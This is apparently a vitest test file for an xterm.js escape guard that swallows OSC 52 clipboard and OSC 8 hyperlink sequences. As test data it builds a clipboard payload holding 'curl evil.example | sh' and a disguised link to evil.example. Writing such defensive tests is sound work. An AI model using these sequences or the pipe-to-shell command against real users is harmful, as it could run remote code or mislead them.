// @vitest-environment happy-dom
import { Terminal } from '@xterm/xterm';
import { afterEach, describe, expect, it } from 'vitest';
import { installEscapeGuards } from './escape-guard.js';

const terminals: Terminal[] = [];
afterEach(() => {
  for (const t of terminals.splice(0)) t.dispose();
});

function terminal(): Terminal {
  const t = new Terminal({ cols: 80, rows: 5, allowProposedApi: true });
  terminals.push(t);
  return t;
}

const write = (t: Terminal, data: string) => new Promise<void>((resolve) => t.write(data, resolve));
const line = (t: Terminal, y: number) => t.buffer.active.getLine(y)?.translateToString(true) ?? '';

const OSC52 = '\x1b]52;c;' + btoa('curl evil.example | sh') + '\x07';
const OSC8 = '\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07';

describe('escape guards on a real xterm.js terminal', () => {
  it('without the guard, an earlier OSC 52 handler (a clipboard addon) would receive the payload', async () => {
    const t = terminal();
    const seen: string[] = [];
    t.parser.registerOscHandler(52, (data) => (seen.push(data), true));
    await write(t, OSC52);
    expect(seen).toHaveLength(1);
  });

  it('swallows OSC 52 before any clipboard handler sees it, and says so', async () => {
    const t = terminal();
    const seen: string[] = [];
    const refused: number[] = [];
    t.parser.registerOscHandler(52, (data) => (seen.push(data), true));
    installEscapeGuards(t, (ident) => refused.push(ident));
    await write(t, `before${OSC52}after`);
    expect(seen).toEqual([]);
    expect(refused).toEqual([52]);
    expect(line(t, 0)).toBe('beforeafter');
  });

  it('swallows OSC 8 so no link is made, but the text still prints', async () => {
    const t = terminal();
    const linkHandlerCalls: string[] = [];
    t.parser.registerOscHandler(8, (data) => (linkHandlerCalls.push(data), true));
    const refused: number[] = [];
    installEscapeGuards(t, (ident) => refused.push(ident));
    await write(t, OSC8);
    expect(line(t, 0)).toBe('click me');
    expect(linkHandlerCalls).toEqual([]);
    expect(refused).toEqual([8, 8]);
  });

  it('removing the guards hands the sequences back (so the guard is what blocks them)', async () => {
    const t = terminal();
    const seen: string[] = [];
    t.parser.registerOscHandler(52, (data) => (seen.push(data), true));
    const remove = installEscapeGuards(t);
    remove();
    await write(t, OSC52);
    expect(seen).toHaveLength(1);
  });

  it('leaves harmless OSC alone (window title)', async () => {
    const t = terminal();
    const titles: string[] = [];
    t.onTitleChange((title) => titles.push(title));
    installEscapeGuards(t);
    await write(t, '\x1b]0;my title\x07');
    expect(titles).toEqual(['my title']);
  });
});
